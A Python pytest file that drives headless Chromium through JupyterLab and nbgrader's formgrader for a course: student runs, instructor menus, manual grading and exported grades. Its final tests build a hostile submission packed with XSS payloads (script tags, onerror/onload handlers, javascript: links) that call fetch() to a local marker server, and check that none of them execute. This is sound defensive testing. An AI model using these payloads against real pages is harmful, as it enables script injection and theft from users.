"""JupyterLab in a real browser, as students and instructors meet it.

Headless Chromium (Debian's ``chromium``; Playwright's Python package drives it through
``executable_path``, no browser download) against JupyterLab servers on 127.0.0.1:

* **student**: JupyterLab from the student environment (``pip install -e ".[student]"``,
  built by ``make venv-student``), holding a released notebook and a solved one, each run
  with Run > Run All Cells. The released one must stop only at the first
  ``NotImplementedError`` stub; the solved one must finish without an error. Neither may
  show a stderr box (TensorFlow's start-up lines used to), figures must be drawn, and the
  menu bar must have no Nbgrader menu.
* **instructor**: JupyterLab from this environment (nbgrader installed) in a released copy
  of the course: Nbgrader > Formgrader lists the assignment, and neither the formgrader
  nor the Assignment List reports a missing exchange directory.
* **manual grading**: a class autograded with the course's tools (a solved submission, a
  failing one, a hostile one); in the formgrader's grading view the grader scores and
  comments every essay of notebook 06 and lowers one automatic score of notebook 04 (whose
  figures must be drawn), the failing notebook's view shows its tracebacks, and the
  gradebook, ``make feedback``'s HTML, grades.csv and the score table then hold those
  points and comments.
* **hostile output**: the hostile submission's grading view and feedback page run none of
  its payloads (no dialog, no console message, no request to a marker server).

Run alone with ``make test-browser``. Each missing piece (chromium, Playwright, the student
environment) makes the test skip with the reason. ``SONGREC_BROWSER_SHOTS=DIR`` keeps
screenshots of every step in DIR (they are written to the test's tmp folder otherwise).
"""

from __future__ import annotations

import io
import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import nbgrader_toy as toy
import pytest

from tools.instructor.release import run_release

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
NOTEBOOK = "04_training.ipynb"   # training, progress lines, a figure, Keras (TensorFlow) imported
CHROMIUM_FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                  "--disable-component-update", "--disable-sync", "--no-first-run",
                  "--disable-quic", "--disable-dev-shm-usage"]
STDERR_MIME = "application/vnd.jupyter.stderr"
RUN_TIMEOUT = 900


# --------------------------------------------------------------------------- prerequisites

def _chromium() -> str:
    for name in ("chromium", "chromium-browser"):
        path = shutil.which(name)
        if path:
            return path
    pytest.skip("no chromium on PATH: install Debian's chromium (`make browser-deps` does, as root)")


def _student_python() -> Path:
    venv = Path(os.environ.get("SONGREC_STUDENT_VENV") or ROOT / ".venv-student")
    if not venv.is_absolute():
        venv = ROOT / venv
    python = venv / "bin" / "python"
    if not python.exists():
        pytest.skip(f"no student environment at {venv}: run `make venv-student` (or `make browser-deps`)")
    return python


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    chromium = _chromium()
    sync_api = pytest.importorskip("playwright.sync_api",
                                   reason="Playwright's Python package is missing: `make browser-deps`")
    pw = sync_api.sync_playwright().start()
    try:
        context = pw.chromium.launch_persistent_context(
            str(tmp_path_factory.mktemp("chromium-profile")), executable_path=chromium,
            headless=True, args=CHROMIUM_FLAGS, viewport={"width": 1400, "height": 1000})
    except Exception as exc:  # e.g. a Chromium too old for this Playwright
        pw.stop()
        pytest.skip(f"Playwright could not start {chromium}: {exc}")
    try:
        yield context
    finally:
        context.close()
        pw.stop()


@pytest.fixture(scope="module")
def released_course(tmp_path_factory):
    """A copy of the course with release/song2vec/ made by `python -m tools.instructor release`."""
    root = tmp_path_factory.mktemp("course")
    toy.copy_course_with_real_notebooks(root, toy.REAL_SOURCE)
    run_release(root, env=toy.course_env_for_tests(300), out=io.StringIO())
    return root


@pytest.fixture
def shots(tmp_path):
    folder = Path(os.environ.get("SONGREC_BROWSER_SHOTS") or tmp_path / "screenshots")
    folder.mkdir(parents=True, exist_ok=True)
    return folder


# --------------------------------------------------------------------------- JupyterLab

def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Lab:
    """A JupyterLab server on 127.0.0.1 with its own settings, runtime and data folders."""

    def __init__(self, python: Path, root: Path, home: Path, env: dict[str, str]):
        self.root = root
        self.port, self.token = _free_port(), secrets.token_hex(16)
        self.base = f"http://127.0.0.1:{self.port}"
        # Every cell stays in the page, so the checks can read all outputs; no news pop-up.
        for plugin, values in (("notebook-extension/tracker", {"windowingMode": "none"}),
                               ("apputils-extension/notification", {"fetchNews": "false"})):
            path = home / "user-settings" / "@jupyterlab" / f"{plugin}.jupyterlab-settings"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(json.dumps(values))
        full_env = {**os.environ, **env,
                    "HOME": str(home), "JUPYTER_CONFIG_DIR": str(home / "config"),
                    "JUPYTER_DATA_DIR": str(home / "data"), "JUPYTER_RUNTIME_DIR": str(home / "runtime"),
                    "JUPYTERLAB_SETTINGS_DIR": str(home / "user-settings"),
                    "JUPYTERLAB_WORKSPACES_DIR": str(home / "workspaces"),
                    "PATH": f"{python.parent}{os.pathsep}{os.environ.get('PATH', '')}"}
        # As a student's machine has it: helpers found by the environment under test itself,
        # TensorFlow's log level not set by hand (conftest.py sets it for the test process).
        full_env.pop("PYTHONPATH", None)
        full_env.pop("TF_CPP_MIN_LOG_LEVEL", None)
        self.log = (home / "server.log").open("w")
        self.proc = subprocess.Popen(
            [str(python), "-m", "jupyter", "lab", "--no-browser", "--ServerApp.ip=127.0.0.1",
             f"--ServerApp.port={self.port}", "--ServerApp.port_retries=0",
             f"--IdentityProvider.token={self.token}", f"--ServerApp.root_dir={root}",
             "--LabApp.news_url=", "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate",
             *(["--allow-root"] if os.geteuid() == 0 else [])],  # CI machines run as root
            cwd=root, env=full_env, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True)
        self._wait_ready(home / "server.log")

    def _wait_ready(self, log: Path, timeout: float = 120) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise AssertionError(f"JupyterLab exited with {self.proc.returncode}:\n{log.read_text()[-3000:]}")
            try:
                with urllib.request.urlopen(f"{self.base}/api/status?token={self.token}", timeout=2):
                    return
            except OSError:
                time.sleep(0.5)
        raise AssertionError(f"JupyterLab did not answer within {timeout} s:\n{log.read_text()[-3000:]}")

    def kernel_state(self, notebook: str) -> str | None:
        """The execution state of the kernel of ``notebook``'s session (None: no session yet)."""
        with urllib.request.urlopen(self.url("api/sessions"), timeout=5) as response:
            for session in json.load(response):
                if session.get("path") == notebook and session.get("kernel"):
                    return session["kernel"].get("execution_state")
        return None

    def url(self, path: str, query: str = "") -> str:
        return f"{self.base}/{path}?{query + '&' if query else ''}token={self.token}"

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self.log.close()


def _lab_env(tmp_path: Path) -> dict[str, str]:
    return {"SONGREC_PROFILE": "ci", "SONGREC_CACHE_DIR": str(tmp_path / "cache")}


def _menu(page, top: str, item: str) -> None:
    page.locator(".lm-MenuBar-itemLabel").get_by_text(top, exact=True).click()
    page.locator(".lm-Menu-itemLabel").get_by_text(item, exact=True).click()


IDLE = ".jp-NotebookPanel:not(.lm-mod-hidden) .jp-Notebook-ExecutionIndicator[data-status='idle']"


def _wait_kernel_ready(page, lab: Lab, notebook: str, timeout: float = 120) -> None:
    """Until the notebook's kernel is started, idle, and the page shows it idle."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if lab.kernel_state(notebook) == "idle" and page.locator(IDLE).count():
            return
        page.wait_for_timeout(500)
    raise AssertionError(f"the kernel of {notebook} was not ready within {timeout} s")


def _run_all(page, lab: Lab, notebook: str, timeout: float = RUN_TIMEOUT) -> None:
    """Run > Run All Cells, then wait until no cell is queued or running and the kernel is idle."""
    _wait_kernel_ready(page, lab, notebook)
    _menu(page, "Run", "Run All Cells")
    deadline, quiet = time.monotonic() + timeout, 0
    page.wait_for_timeout(1000)
    while time.monotonic() < deadline:
        busy = page.evaluate("""() => [...document.querySelectorAll('.jp-InputArea-prompt')]
                                     .some(p => p.textContent.includes('*'))""")
        idle = page.locator(IDLE).count() > 0
        quiet = quiet + 1 if (idle and not busy) else 0
        if quiet >= 3:
            return
        page.wait_for_timeout(1000)
    raise AssertionError(f"Run All Cells did not finish within {timeout} s")


def _save(page, path: Path) -> dict:
    """File > Save Notebook; returns the notebook as saved (its outputs as the browser holds them)."""
    before = path.stat().st_mtime_ns
    _menu(page, "File", "Save Notebook")
    for _ in range(60):
        if path.stat().st_mtime_ns != before:
            break
        page.wait_for_timeout(500)
    page.wait_for_timeout(500)
    return json.loads(path.read_text())


def _page_report(page) -> dict:
    """What a student sees: stderr boxes, drawn images, menu bar."""
    return page.evaluate("""(mime) => ({
        stderr: [...document.querySelectorAll(`.jp-OutputArea-output[data-mime-type="${mime}"]`)]
                   .map(e => e.innerText.slice(0, 400)),
        images: [...document.querySelectorAll('.jp-OutputArea-output img')]
                   .map(i => ({w: i.naturalWidth, h: i.naturalHeight})),
        menus: [...document.querySelectorAll('.lm-MenuBar-itemLabel')].map(e => e.textContent),
    })""", STDERR_MIME)


def _outputs(nb: dict) -> list[dict]:
    return [o for cell in nb["cells"] if cell["cell_type"] == "code" for o in cell.get("outputs", [])]


def _open_and_run(browser, lab: Lab, name: str, shots: Path, tag: str) -> tuple[dict, dict]:
    page = browser.new_page()
    try:
        # A workspace of its own: only this notebook open, whatever ran before.
        page.goto(lab.url(f"lab/workspaces/{tag}/tree/{name}", "reset"))
        page.wait_for_selector(".jp-Notebook .jp-Cell", timeout=120_000)
        page.screenshot(path=str(shots / f"{tag}-1-opened.png"))
        _run_all(page, lab, name)
        page.screenshot(path=str(shots / f"{tag}-2-ran.png"))
        for what, selector in (("figure", ".jp-OutputArea-output img"),
                               ("stderr", f'.jp-OutputArea-output[data-mime-type="{STDERR_MIME}"]')):
            if page.locator(selector).count():
                page.locator(selector).first.scroll_into_view_if_needed()
                page.screenshot(path=str(shots / f"{tag}-2-{what}.png"))
        report = _page_report(page)
        saved = _save(page, lab.root / name)
        page.screenshot(path=str(shots / f"{tag}-3-saved.png"))
        return report, saved
    except Exception:
        page.screenshot(path=str(shots / f"{tag}-failed.png"), full_page=True)
        raise
    finally:
        page.close()


# --------------------------------------------------------------------------- the tests

def test_student_runs_a_released_and_a_solved_notebook(browser, released_course, tmp_path, shots):
    python = _student_python()
    probe = subprocess.run([str(python), "-c", "import importlib.util as u; "
                            "print(u.find_spec('nbgrader') is None, u.find_spec('helpers') is not None)"],
                           capture_output=True, text=True, env={**os.environ, "PYTHONPATH": ""})
    assert probe.stdout.split() == ["True", "True"], (
        f"the student environment must have helpers and no nbgrader: {probe.stdout}{probe.stderr}")
    work = tmp_path / "student"
    work.mkdir()
    shutil.copy(released_course / "release" / "song2vec" / NOTEBOOK, work / NOTEBOOK)
    solved = NOTEBOOK.replace(".ipynb", "_solved.ipynb")
    shutil.copy(ROOT / "notebooks" / "song2vec" / NOTEBOOK, work / solved)
    lab = Lab(python, work, tmp_path / "student-home", _lab_env(tmp_path))
    try:
        released_report, released_nb = _open_and_run(browser, lab, NOTEBOOK, shots, "student-released")
        solved_report, solved_nb = _open_and_run(browser, lab, solved, shots, "student-solved")
    finally:
        lab.stop()

    for report in (released_report, solved_report):
        assert "Nbgrader" not in report["menus"], f"students see nbgrader's menu: {report['menus']}"
        assert "Run" in report["menus"]

    # Released: Run All stops at the first stub, and that is the only error.
    errors = [o for o in _outputs(released_nb) if o["output_type"] == "error"]
    assert [e["ename"] for e in errors] == ["NotImplementedError"], errors
    assert len(released_report["stderr"]) == 1 and "NotImplementedError" in released_report["stderr"][0], \
        released_report["stderr"]
    assert not [o for o in _outputs(released_nb) if o.get("name") == "stderr"], "stderr output in the released notebook"

    # Solved: every code cell ran, no error, no stderr box, the figures are drawn.
    code = [c for c in solved_nb["cells"] if c["cell_type"] == "code"]
    assert all(c.get("execution_count") for c in code), "some cells of the solved notebook did not run"
    assert not [o for o in _outputs(solved_nb) if o["output_type"] == "error"]
    assert solved_report["stderr"] == [], f"stderr boxes: {solved_report['stderr']}"
    assert not [o for o in _outputs(solved_nb) if o.get("name") == "stderr"]
    pngs = [o for o in _outputs(solved_nb) if "image/png" in o.get("data", {})]
    assert pngs and len(solved_report["images"]) >= len(pngs)
    assert all(img["w"] > 100 and img["h"] > 100 for img in solved_report["images"]), solved_report["images"]
    text = "".join("".join(o.get("text", "")) for o in _outputs(solved_nb))
    assert "epoch 2/2" in text and " in all)" in text, "the training cell printed no progress lines"


def test_instructor_formgrader_lists_the_assignment_without_exchange_errors(
        browser, released_course, tmp_path, shots):
    lab = Lab(Path(sys.executable), released_course, tmp_path / "instructor-home", _lab_env(tmp_path))
    page = browser.new_page()
    try:
        page.goto(lab.url("lab"))
        page.wait_for_selector(".lm-MenuBar-itemLabel", timeout=120_000)
        menus = page.locator(".lm-MenuBar-itemLabel").all_text_contents()
        assert "Nbgrader" in menus, f"the instructor environment has no Nbgrader menu: {menus}"

        _menu(page, "Nbgrader", "Formgrader")
        frame = page.frame_locator("iframe").first
        frame.get_by_role("link", name="song2vec", exact=True).wait_for(timeout=120_000)
        page.screenshot(path=str(shots / "instructor-formgrader.png"))
        body = frame.locator("body").inner_text()
        assert "song2vec" in body
        assert frame.locator("#warning-exchange").count() == 0, body[:2000]
        assert "does not exist" not in body

        # The student-side panels of the instructor's environment; each reads the exchange.
        for item, ready in (("Assignment List", "Released assignments"),
                            ("Course List", "Available formgraders")):
            _menu(page, "Nbgrader", item)
            page.get_by_text(ready).first.wait_for(timeout=60_000)
            page.wait_for_timeout(3000)  # the lists fill in after the panel appears
            page.screenshot(path=str(shots / f"instructor-{item.lower().replace(' ', '-')}.png"))
            shown = page.locator("body").inner_text()
            for complaint in ("Error fetching courses", "exchange directory", "does not exist"):
                assert complaint not in shown, f"{item}: {complaint!r} shown:\n{shown[:3000]}"
    except Exception:
        page.screenshot(path=str(shots / "instructor-failed.png"), full_page=True)
        raise
    finally:
        page.close()
        lab.stop()


# --------------------------------------------------------------------------- manual grading
# A class autograded by the course's own tools: "solved" hands in the solutions of notebooks
# 04 (figures) and 06 (the manually graded essays), "failing" the untouched release of 01
# (its tests fail), "hostile" a notebook 06 whose essay and an extra cell display script
# payloads aimed at a marker server on 127.0.0.1.

MANUAL_NB, FIGURE_NB, FAILING_NB = "06_questions", "04_training", "01_mapping"
XSS_MARKER = "XSS-MARKER"
# Points the grader gives each essay of notebook 06 (as typed into the formgrader).
MANUAL_POINTS = {"06_q1": 2, "06_q2": 2.5, "06_q3": 3, "06_q4": 1, "06_q5": 0.5, "06_q6": 2}
OVERRIDDEN = ("04_train_test_seed", 0)  # an automatic score the grader lowers (1 point earned)
FORMGRADER_ERROR = "Sorry, the formgrader encountered an error"


class MarkerServer:
    """An HTTP server on 127.0.0.1 that records every request: a student script that runs
    in a grading page announces itself here."""

    def __init__(self):
        import http.server
        import threading

        self.requests: list[str] = []
        record = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                record.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def _hostile_cells(marker: str) -> tuple[str, str]:
    """An essay (Markdown) and a code cell that try every way of running script in a page."""
    run = f"console.log('{XSS_MARKER}');fetch('{marker}/' + location.protocol);alert('xss')"
    essay = "\n\n".join([
        "My answer, with **bold** text that must stay readable.",
        f"<script>{run}</script>",
        f"<img src=x onerror=\"{run}\">",
        f"<svg onload=\"{run}\"><circle r=5></circle></svg>",
        f"<a id=\"md-link\" href=\"javascript:{run}\">click me</a>",
        f"<iframe src=\"{marker}/md-iframe\"></iframe><img src=\"{marker}/md-img\">",
        f"<details open ontoggle=\"{run}\"><summary>s</summary></details>",
    ])
    code = f"""from IPython.display import HTML, SVG, Javascript, Markdown, display
run = {run!r}
display(HTML(f"<script>{{run}}</script><b>student html</b>"))
display(HTML(f'<img src=x onerror="{{run}}">'))
display(Javascript(run))
display({{"application/javascript": run, "text/plain": "js"}}, raw=True)
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{{run}}"><circle r="5"/></svg>'))
display(HTML(f'<a id="out-link" href="javascript:{{run}}">click me</a>'))
display(HTML('<iframe src="{marker}/out-iframe"></iframe><img src="{marker}/out-img">'))
display(Markdown(f"*markdown output* <img src=x onerror=\\"{{run}}\\">"))
display({{"image/png": 'x" onerror="' + run, "text/plain": "png"}}, raw=True)
print("plain text <b>stays</b> visible")
"""
    return essay, code


@pytest.fixture(scope="module")
def marker():
    server = MarkerServer()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def graded_course(released_course, marker, tmp_path_factory):
    """The released course with the three students above autograded (``make autograde``'s code)."""
    import nbformat

    from tools.instructor import grading

    root = tmp_path_factory.mktemp("graded") / "course"
    shutil.copytree(released_course, root, ignore=shutil.ignore_patterns("submitted", "autograded", "feedback"))
    source, release = root / "notebooks" / "song2vec", root / "release" / "song2vec"

    def hand_in(student: str, name: str, nb) -> None:
        target = root / "submitted" / student / "song2vec" / f"{name}.ipynb"
        target.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, target)

    for name in (MANUAL_NB, FIGURE_NB):
        hand_in("solved", name, nbformat.read(source / f"{name}.ipynb", as_version=4))
    hand_in("failing", FAILING_NB, nbformat.read(release / f"{FAILING_NB}.ipynb", as_version=4))
    hostile = nbformat.read(release / f"{MANUAL_NB}.ipynb", as_version=4)
    essay, code = _hostile_cells(marker.url)
    answer = next(c for c in hostile.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "06_q1")
    answer.source = essay
    hostile.cells.append(nbformat.v4.new_code_cell(code))
    hand_in("hostile", MANUAL_NB, hostile)

    env = toy.course_env_for_tests(300)
    grading.run_autograde(root, env=env, out=io.StringIO(), timeout=900)
    return root


def _submission_id(root: Path, student: str, notebook: str) -> str:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        return gb.find_submission_notebook(notebook, "song2vec", student).id


def _grades(root: Path, student: str, notebook: str) -> dict[str, tuple]:
    """grade_id -> (auto score, manual score, comment) as the gradebook holds them."""
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        nb = gb.find_submission_notebook(notebook, "song2vec", student)
        comments = {c.name: c.manual_comment for c in nb.comments}
        return {g.name: (g.auto_score, g.manual_score, comments.get(g.name)) for g in nb.grades}


class PageWatch:
    """Everything a page reports: dialogs (dismissed), console messages, page errors, requests."""

    def __init__(self, page):
        self.dialogs, self.console, self.errors, self.requests, self.failed = [], [], [], [], []
        page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
        page.on("response", lambda r: self.failed.append(f"{r.status} {r.request.method} {r.url}")
                if r.status >= 400 and "/formgrader/" in r.url else None)
        page.on("console", lambda m: self.console.append(m.text))
        page.on("pageerror", lambda e: self.errors.append(str(e)))
        page.on("request", lambda r: self.requests.append(r.url))


def _open_grading_view(page, lab: Lab, root: Path, student: str, notebook: str, shots: Path) -> None:
    sid = _submission_id(root, student, notebook)
    response = page.goto(lab.url(f"formgrader/submissions/{sid}/"))
    page.wait_for_load_state("load")
    page.wait_for_timeout(1500)  # the grading widgets fill in from the formgrader's API
    page.screenshot(path=str(shots / f"formgrader-{student}-{notebook}.png"), full_page=True)
    body = page.locator("body").inner_text()
    assert response.status == 200 and FORMGRADER_ERROR not in body, f"{response.status}: {body[:2000]}"
    assert "TemplateNotFound" not in body


def _open_lab(page, lab: Lab) -> None:
    """JupyterLab first, as the grader starts: it sets the cookies (XSRF) the formgrader's saves need."""
    page.goto(lab.url("lab"))
    page.wait_for_selector(".lm-MenuBar-itemLabel", timeout=120_000)


def _wait_saved(root: Path, student: str, notebook: str, expected: dict, timeout: float = 30) -> dict:
    """The gradebook's grades once ``expected`` (grade_id -> manual score) are all saved."""
    deadline = time.monotonic() + timeout
    while True:
        grades = _grades(root, student, notebook)
        if all(grades.get(g, (None, None))[1] == v for g, v in expected.items()) or time.monotonic() > deadline:
            return grades
        time.sleep(0.5)


def _type_and_leave(page, selector: str, value: str) -> None:
    page.locator(selector).fill(value)
    page.locator(selector).press("Tab")  # the formgrader saves a score or comment when it loses focus


def test_instructor_grades_manually_in_the_formgrader(browser, graded_course, tmp_path, shots):
    from tools.instructor import grading
    from tools.instructor.scores import run_export

    root = graded_course
    solution = json.loads((root / "notebooks" / "song2vec" / f"{FIGURE_NB}.ipynb").read_text())
    auto_max = sum(c["metadata"]["nbgrader"]["points"] for c in solution["cells"]
                   if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code")
    before = _grades(root, "solved", FIGURE_NB)
    assert sum(auto for auto, _m, _c in before.values()) == auto_max, before

    lab = Lab(Path(sys.executable), root, tmp_path / "grader-home", _lab_env(tmp_path))
    page = browser.new_page()
    watch = PageWatch(page)
    try:
        _open_lab(page, lab)
        _open_grading_view(page, lab, root, "solved", MANUAL_NB, shots)
        for grade_id, points in MANUAL_POINTS.items():
            _type_and_leave(page, f"input.score[id='{grade_id}']", str(points))
            _type_and_leave(page, f"textarea[id='{grade_id}-comment']", f"Grader's note on {grade_id}: well argued")
        _wait_saved(root, "solved", MANUAL_NB, MANUAL_POINTS)
        page.screenshot(path=str(shots / "formgrader-solved-graded.png"), full_page=True)

        _open_grading_view(page, lab, root, "solved", FIGURE_NB, shots)
        images = page.evaluate("() => [...document.querySelectorAll('.output_png img')].map(i => i.naturalWidth)")
        assert images and all(w > 100 for w in images), f"figures not drawn in the grading view: {images}"
        _type_and_leave(page, f"input.score[id='{OVERRIDDEN[0]}']", str(OVERRIDDEN[1]))
        _wait_saved(root, "solved", FIGURE_NB, dict([OVERRIDDEN]))

        _open_grading_view(page, lab, root, "failing", FAILING_NB, shots)
        assert page.locator(".output_error").count() > 0, "the failing tests' tracebacks are not shown"
        assert "NotImplementedError" in page.locator("body").inner_text()
    except Exception:
        page.screenshot(path=str(shots / "formgrader-failed.png"), full_page=True)
        raise
    finally:
        page.close()
        lab.stop()
    # MathJax comes from a CDN, which the test machine (like an offline grader) cannot reach;
    # the formgrader's script then reports it missing. Nothing else may fail.
    page_errors = [e for e in watch.errors if "MathJax is not defined" not in e]
    assert not page_errors and not watch.dialogs, (page_errors, watch.dialogs)
    assert not watch.failed, f"the formgrader answered with errors: {watch.failed}"
    console_errors = [m for m in watch.console if "error" in m.lower() and "mathjax" not in m.lower()
                      and "ERR_" not in m]
    assert not console_errors, console_errors

    # The gradebook holds what was typed.
    saved = _grades(root, "solved", MANUAL_NB)
    for grade_id, points in MANUAL_POINTS.items():
        assert saved[grade_id][1] == points, (grade_id, saved[grade_id])
        assert saved[grade_id][2] == f"Grader's note on {grade_id}: well argued"
    assert _grades(root, "solved", FIGURE_NB)[OVERRIDDEN[0]][1] == OVERRIDDEN[1]

    # make feedback / make export (the same functions) show them.
    env = toy.course_env_for_tests(300)
    log = io.StringIO()
    grading.run_feedback(root, env=env, out=log)
    feedback = (root / "feedback" / "solved" / "song2vec" / f"{MANUAL_NB}.html").read_text()
    manual_total = sum(MANUAL_POINTS.values())
    assert f"(Score: {manual_total:.1f} / 15.0" in feedback, feedback[:3000]
    for grade_id, points in MANUAL_POINTS.items():
        assert f"Grader's note on {grade_id}: well argued" in feedback
        assert f"Score: {float(points)} / " in feedback
    assert "not graded yet" not in feedback
    figure_feedback = (root / "feedback" / "solved" / "song2vec" / f"{FIGURE_NB}.html").read_text()
    assert f"(Score: {auto_max - 1:.1f} / {auto_max:.1f}" in figure_feedback
    out = io.StringIO()
    run_export(root, out=out)
    rows = {r["student_id"]: r for r in __import__("csv").DictReader((root / "grades.csv").open())}
    assert float(rows["solved"][MANUAL_NB]) == manual_total
    assert float(rows["solved"][FIGURE_NB]) == auto_max - 1
    assert rows["solved"]["needs_manual_grade"] == "0"
    table_row = next(line for line in out.getvalue().splitlines() if line.startswith("solved "))
    assert f"{manual_total:g}" in table_row.split() and "*" not in table_row, out.getvalue()


def test_student_output_runs_in_no_grading_page(browser, graded_course, marker, tmp_path, shots):
    """The hostile submission's formgrader view and feedback page, in Chromium: none of its
    payloads may run (no dialog, no console message, no request to the marker server)."""
    from tools.instructor import grading

    root = graded_course
    lab = Lab(Path(sys.executable), root, tmp_path / "xss-home", _lab_env(tmp_path))
    page = browser.new_page()
    watch = PageWatch(page)
    try:
        _open_lab(page, lab)
        _open_grading_view(page, lab, root, "hostile", MANUAL_NB, shots)
        shown = page.locator("body").inner_text()
        for link in page.get_by_text("click me").all():
            link.click()
        page.wait_for_timeout(1500)
        lab_watch = dict(dialogs=list(watch.dialogs), console=list(watch.console))
    finally:
        page.close()
        lab.stop()
    assert "student html" in shown and "plain text <b>stays</b> visible" in shown and "bold" in shown

    grading.run_feedback(root, env=toy.course_env_for_tests(300), out=io.StringIO())
    html_file = root / "feedback" / "hostile" / "song2vec" / f"{MANUAL_NB}.html"
    page = browser.new_page()
    feedback_watch = PageWatch(page)
    try:
        page.goto(html_file.as_uri())
        page.wait_for_load_state("load")
        for link in page.get_by_text("click me").all():
            link.click()
        page.wait_for_timeout(1500)
        page.screenshot(path=str(shots / "feedback-hostile.png"), full_page=True)
        feedback_shown = page.locator("body").inner_text()
    finally:
        page.close()
    assert "student html" in feedback_shown and "plain text <b>stays</b> visible" in feedback_shown

    for where, seen in (("formgrader", lab_watch), ("feedback", vars(feedback_watch))):
        assert not seen["dialogs"], f"{where}: a student script opened a dialog: {seen['dialogs']}"
        assert not [m for m in seen["console"] if XSS_MARKER in m], f"{where}: a student script logged"
    assert not marker.requests, f"student content reached the marker server: {marker.requests}"
    assert not [u for u in watch.requests + feedback_watch.requests if u.startswith(marker.url)]
